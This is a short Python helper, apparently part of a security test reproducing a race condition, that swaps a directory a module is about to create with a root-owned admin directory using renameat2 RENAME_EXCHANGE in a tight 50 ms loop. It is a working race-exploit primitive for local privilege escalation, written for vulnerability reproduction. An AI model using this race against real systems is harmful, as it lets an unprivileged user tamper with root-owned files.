#!/usr/bin/python3
# The user of attack_race.sh's create= phase (issue 6, entry 4), run as her.
#   create_racer.py NAME OTHER READY_FILE
# For 50 ms, exchanges NAME (the polydir the module is about to create in her
# directory) with OTHER (a root-owned directory of the admin's there) as
# fast as she can (renameat2 RENAME_EXCHANGE; it succeeds only once NAME
# exists). Touches READY_FILE first. Prints how many exchanges succeeded.
import ctypes
import sys
import time

name, other, ready = (a.encode() for a in sys.argv[1:4])
libc = ctypes.CDLL(None, use_errno=True)
open(ready, "w").close()
end = time.time() + 0.05
done = 0
while time.time() < end:
    for _ in range(200):
        done += libc.renameat2(-100, name, -100, other, 2) == 0
print(done)
